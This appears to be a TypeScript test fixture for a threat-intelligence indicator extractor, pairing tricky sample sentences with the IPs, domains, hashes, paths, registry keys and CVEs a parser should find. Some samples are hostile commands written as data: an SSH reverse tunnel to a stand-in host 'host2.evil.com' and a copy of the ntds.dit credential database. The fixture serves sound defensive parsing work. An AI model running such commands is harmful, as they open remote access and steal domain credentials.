import type { Sentence } from './sentences.ts';

const MD5 = '9e107d9d372bb6826bd81d3542a419d6';

/** More of what was known to be read wrongly, each with what looks alike and is something else. */
export const KNOWN_SENTENCES: Readonly<Record<string, readonly Sentence[]>> = {
  'addresses behind versions': [
    ['Firefox 115.0.2, 192.168.1.1', 'ipv4 192.168.1.1'],
    ['Chrome 120.0.6099.1, 203.0.113.7 and 198.51.100.4', 'ipv4 203.0.113.7', 'ipv4 198.51.100.4'],
    ['version 2.1 (203.0.113.7)', 'ipv4 203.0.113.7'],
    ['version 1.2.3.4, 1.2.3.5 and 1.2.3.6'],
    ['Chrome 115.0.2.1, 116.0.1.2 and 117.0.9.9'],
  ],
  'models that look like a technique and its name': [
    ['T1290Wifi, T1341Pro'],
    ['T1059Command T1566.001Phishing T1437Application', 'attack-id T1059', 'attack-id T1566.001', 'attack-id T1437'],
  ],
  'numbers in names that are no hash of the file': [
    [`session_${MD5}.log`, `filename session_${MD5}.log`],
    [`token-${MD5}.dat`, `filename token-${MD5}.dat`],
    [`VirusShare_${MD5}.zip`, `filename VirusShare_${MD5}.zip`, `md5 ${MD5}`],
  ],
  'mailboxes in fields of forms': [
    ['POST /login email=kim%40evil.example.com&pass=x', 'email kim@evil.example.com'],
    ['to=kim%2540evil.com, <%3Ca%2Bb%40evil.com%3E>', 'email kim@evil.com', 'email a+b@evil.com'],
    ['https://evil.com/a?email=kim%40acme.com', 'url https://evil.com/a?email=kim%40acme.com'],
    ['x=%40acme.com 5%40', 'domain acme.com'],
    ['user%3Asecret%40acme.com', 'domain acme.com'],
  ],
  'services of Tor with a port': [
    ['expyuzz4wqqyqhjn.onion:8080', 'onion expyuzz4wqqyqhjn.onion'],
    ['expyuzz4wqqyqhjn[.]onion[:]443', 'onion expyuzz4wqqyqhjn.onion'],
    ['c2.evil.com:8080', 'hostname|port c2.evil.com|8080'],
  ],
  'servers of shares': [
    ['\\\\203.0.113.7\\share\\a.dll', 'windows-path \\\\203.0.113.7\\share\\a.dll', 'ipv4 203.0.113.7'],
    ['\\\\evil.com@8080\\DavWWWRoot\\a.dll', 'windows-path \\\\evil.com@8080\\DavWWWRoot\\a.dll', 'domain evil.com'],
    ['\\\\nas.evil.com\\new\\a.dll', 'windows-path \\\\nas.evil.com\\new\\a.dll'],
    ['\\\\10.1.2.3\\c$\\a.exe', 'windows-path \\\\10.1.2.3\\c$\\a.exe'],
    ['\\\\dc01.corp.local\\SYSVOL\\a.ps1', 'windows-path \\\\dc01.corp.local\\SYSVOL\\a.ps1'],
  ],
  'halves of brackets': [
    ['see evil-cdn[.com and www.evil-two].com are the same', 'domain evil-cdn.com', 'hostname www.evil-two.com'],
    ['evil-cdn[.com, evil-two].com', 'domain evil-cdn.com', 'domain evil-two.com'],
    ['[see evil-two].com and list[evil-two].com'],
  ],
  'letters taken out of a word': [
    ['inst[a]gram.com and evil[p]al-login.com', 'domain instagram.com', 'domain evilpal-login.com'],
    ['arr[i]-size and x[i]-y[j]'],
    ['john[a]evil.com', 'email john@evil.com'],
    ['hXXX://evil.com/a and hxxxs[:]//evil[.]com/b', 'url http://evil.com/a', 'url https://evil.com/b'],
  ],
  'paths of Unix with blanks': [
    ['File: /tmp/My App.exe', 'unix-path /tmp/My App.exe'],
    ['| /opt/Evil Tool/run.sh | x |', 'unix-path /opt/Evil Tool/run.sh'],
    ['Path: /Applications/My App.app/Contents/MacOS/My App', 'unix-path /Applications/My App.app/Contents/MacOS/My App'],
    ['- /tmp/a The End', 'unix-path /tmp/a'],
    ['Process: /usr/bin/python3 App.py', 'unix-path /usr/bin/python3', 'filename App.py'],
    ['/vmfs/volumes/datastore1/.lock/x', 'unix-path /vmfs/volumes/datastore1/.lock/x'],
  ],
  'a second ending behind a script': [
    ['foo.js .bat wrapper', 'filename foo.js'],
    ['it has invoice.pdf .bat inside', 'filename invoice.pdf .bat'],
  ],
  'numbers that are dialled in letters': [
    ['Toll-Free: 866.486.4842 (866.4.EVIL42)', 'phone 8664864842'],
    ['Toll-Free: 866.486.4842 (866.486.4843)', 'phone 8664864842', 'phone 8664864843'],
  ],
  'names of companies in keys and paths': [
    ["key = 'HKEY_LOCAL_MACHINE\\\\\\\\SOFTWARE\\\\\\\\Evil, Inc.\\\\\\\\Upd'", 'regkey HKEY_LOCAL_MACHINE\\SOFTWARE\\Evil, Inc.\\Upd'],
    ['C:\\Program Files\\Evil, LLC\\x.exe and C:\\a, then', 'windows-path C:\\Program Files\\Evil, LLC\\x.exe', 'windows-path C:\\a'],
    ['HKLM\\SOFTWARE\\Evil, Inc. made it', 'regkey HKLM\\SOFTWARE\\Evil'],
  ],
  'names with an ending that no list knows': [
    ['File name: payload.v00\nName: x.v00', 'filename payload.v00'],
    [`| File name | MD5 |\n|---|---|\n| lsu_lsi_.v05 | ${MD5} |`, 'filename lsu_lsi_.v05', `md5 ${MD5}`],
    ['File name: evil.shop and File name: 1.2.3', 'domain evil.shop'],
    ['Filename: foo.bar baz, see a.v00'],
    ['open(filename, mode)\nopen(path, self._mode, os.sep)'],
    [`"filename","md5"\n"boat.xyz9","${MD5}"`, 'filename boat.xyz9', `md5 ${MD5}`],
    ['filename: resource.filename\nfileName: item.title'],
  ],
  'numbers below a header': [
    [
      '| IP | ASN |\n|:--|--:|\n| 203.0.113.7 | 64500 |\n| 203.0.113.8 | - |\n| 203.0.113.9 | 64501 |',
      'ipv4 203.0.113.7',
      'asn AS64500',
      'ipv4 203.0.113.8',
      'ipv4 203.0.113.9',
      'asn AS64501',
    ],
    ['| IP | Port |\n|---|---|\n| 203.0.113.7 | 64500 |', 'ipv4 203.0.113.7'],
    ['ASN | size\nthe 64500 | x'],
  ],
  'what lost its end to the next line': [
    ['update-service.evil-\nload[.]club is', 'hostname update-service.evil-load.club'],
    ['a well-known anti-\nvirus[.]com', 'domain virus.com'],
    ['T1547 .001 Registry Run Keys', 'attack-id T1547.001'],
  ],
  'what a file with a hash does': [
    [`${MD5}  downloads evil.dll`, `md5 ${MD5}`, 'filename evil.dll'],
    [`${MD5}  my report.pdf`, `md5 ${MD5}`, 'filename my report.pdf'],
  ],
  'versions that are told again': [
    ['Upgrade to 7.0.2.1; 7.0.2.1 is signed'],
    ['version 2.3.0.1 connects to 2.3.0.1', 'ipv4 2.3.0.1'],
    ['nginx 1.18.0.2 and 1[.]18[.]0[.]2', 'ipv4 1.18.0.2'],
    ['5.6.7.9 runs version 5.6.7.8', 'ipv4 5.6.7.9'],
  ],
  'paths of the kernel and of macOS': [
    ['copy \\\\?\\GLOBALROOT\\Device\\x\\ntds.dit C:\\x', 'windows-path \\\\?\\GLOBALROOT\\Device\\x\\ntds.dit', 'windows-path C:\\x'],
    ['\\\\?\\C:\\a.dll', 'windows-path C:\\a.dll'],
    ['xattr -c /Users/Shared/Internal PDF Viewer.app', 'unix-path /Users/Shared/Internal PDF Viewer.app'],
    ['cp /Users/Shared/x Then the Viewer.apps', 'unix-path /Users/Shared/x'],
  ],
  'agents beside other fields': [
    ['User agents: python-requests/2.25.1; x', 'user-agent python-requests/2.25.1'],
    ['User-Agent: curl/7.29.0 X-Api-Version: y', 'user-agent curl/7.29.0'],
    [
      '2022-07-21 02:12:11 W3SVC1 10.1.1.20 POST /a - 443 - 203.0.113.7 curl/8.1.2 - 200 0 0 93',
      'ipv4 10.1.1.20',
      'ipv4 203.0.113.7',
      'user-agent curl/8.1.2',
    ],
    ['install curl/8.1.2 - 3 times'],
  ],
  'names behind a number sign or a dot': [
    ['Приказ №17.exe', 'filename Приказ №17.exe'],
    ['Attachment: Invoice №44.pdf', 'filename Invoice №44.pdf'],
    ['see № 44.pdf', 'filename 44.pdf'],
    [`${MD5}\t.hidden.dylib\n\t.sig.js`, `md5 ${MD5}`, 'filename .hidden.dylib', 'filename sig.js'],
    ['the end. .hidden.sh', 'filename hidden.sh'],
    ['伪装成学习资料.zip的', 'filename 学习资料.zip'],
  ],
  'who logs in to a machine behind options': [
    ['ssh -i id_rsa -R 2222:localhost:22 tunnel@host2.evil.com -p 443', 'hostname host2.evil.com'],
    ['by ssh, write to tunnel@evil.com', 'email tunnel@evil.com'],
  ],
  'hosts in names of rules': [
    ['2049000 - ET MALWARE Domain in TLS SNI (evil .com)', 'domain evil.com'],
    ['ETPRO MALWARE Lookup (a-b.evil .top in DNS)', 'hostname a-b.evil.top'],
    ['see (the .com) and (evil .com)'],
  ],
  'URLs before the date of the next line': [
    [
      '09/14 18:11 the file x.exe was loaded from hxxps://upd5[.]pro/update/antispam\n09/14 18:20 the tunnel',
      'filename x.exe',
      'url https://upd5.pro/update/antispam',
    ],
    [
      'the file x.exe was loaded from hxxps://upd5[.]pro/updates/of/antispam/\n2024/01/31.zip',
      'filename x.exe',
      'url https://upd5.pro/updates/of/antispam/2024/01/31.zip',
    ],
  ],
  'escaped URLs that were defanged': [['act=hxxps%3A%2F%2Fwww.exxon.co.kr%2Fx.asp&k=1', 'url https://www.exxon.co.kr/x.asp']],
  'numbers that pin or reach somebody': [
    ['uses: tj-actions/changed-files@0e58ed8671d6b60d0890c21b07f8835ace038e67'],
    [`qTOX ${MD5}${MD5}`],
    ['x@0e58ed8671d6b60d0890c21b07f8835ace038e67', 'sha1 0e58ed8671d6b60d0890c21b07f8835ace038e67'],
  ],
  'values behind a key': [
    ['HKLM\\SYSTEM\\Control\\WDigest UseLogonCredential', 'regkey HKLM\\SYSTEM\\Control\\WDigest'],
    ['HKLM\\SYSTEM\\Services\\Mesh Agent', 'regkey HKLM\\SYSTEM\\Services\\Mesh Agent'],
  ],
  'names between bars behind a label': [
    ['Attachments: a.zip | rep0rt Oct.xlsm | b.pdf', 'filename a.zip', 'filename rep0rt Oct.xlsm', 'filename b.pdf'],
    ['| Attachment: | the file x.exe |', 'filename x.exe'],
    ['seen: a.zip | the file b.exe', 'filename a.zip', 'filename b.exe'],
    ['a file: $ zip x | cat > out.zip', 'filename out.zip'],
  ],
  'vulnerabilities of one year by their numbers alone': [
    ['CVE-2021-26855, 26857, 26858 & 27065 were', 'cve CVE-2021-26855', 'cve CVE-2021-26857', 'cve CVE-2021-26858', 'cve CVE-2021-27065'],
    ['(CVE-2021-44228, 45046)', 'cve CVE-2021-44228', 'cve CVE-2021-45046'],
    ['CVE-2021-44228, 12345 hosts and 23456 users; CVE-2021-44228 and 12345 others', 'cve CVE-2021-44228'],
    ['CVE-2021-44228, 45046 in 2024', 'cve CVE-2021-44228'],
    ['cf. 4.1.2.1'],
  ],
  'values of records that say their type': [
    [`{"type":"imphash","to_ids":true,"value":"${MD5}"}`, `imphash ${MD5}`],
    [`{"type": "ja3-fingerprint-md5", "value": "${MD5}"}`, `ja3 ${MD5}`],
    [`{"type":"imphash","value":""},{"type":"md5","value":"${MD5}"}`, `md5 ${MD5}`],
    [`{"type":"imphash"},{"value":"${MD5}"}`, `md5 ${MD5}`],
    ["[mutex:name = 'evil_mtx_9']", 'mutex evil_mtx_9'],
    ['{"value":"\\/tmp\\/evil.sh"}', 'unix-path /tmp/evil.sh'],
    ['/"\\/login"/'],
  ],
  'versions in more languages': [['versies 13.1-49.15 en 12.1.65.21; versiones 9.1.0.2 y 10.2.1.4']],
  'names below what says so': [['ITW File Name\nGET THE REPORT.docx\nSize', 'filename GET THE REPORT.docx']],
  'names with a tilde': [
    ['~DF1234.tmp, ~$report.docx, SMALLU~1.JS', 'filename ~DF1234.tmp', 'filename ~$report.docx', 'filename SMALLU~1.JS'],
    ['about ~5.doc, $x.exe and ~~x.js~~', 'filename 5.doc', 'filename x.exe', 'filename x.js'],
    ['a~b.exe, ~/a.exe', 'filename b.exe', 'unix-path ~/a.exe'],
  ],
  'names in cells whose last word is an object of programs': [
    [`${MD5}\t~Commitment Form.doc\tDecoy`, `md5 ${MD5}`, 'filename ~Commitment Form.doc'],
    [`${MD5}\tnew Form.doc`, `md5 ${MD5}`, 'filename Form.doc'],
    ['set Form.doc to x'],
  ],
  'names of one letter in brackets': [['runs Meterpreter (m.dat) and x', 'filename m.dat'], ['if (m.dat) return (m.data) f(m.dat) m.dat']],
  'name spaces of WMI that look like shares': [
    ['WMIC /Namespace:\\\\root\\SecurityCenter2 Path; \\\\.\\root\\cimv2 and "\\\\root\\subscription"; a.exe', 'filename a.exe'],
    ['\\\\root\\share\\a.dll', 'windows-path \\\\root\\share\\a.dll'],
    ['\\\\rootsrv\\x', 'windows-path \\\\rootsrv\\x'],
  ],
};
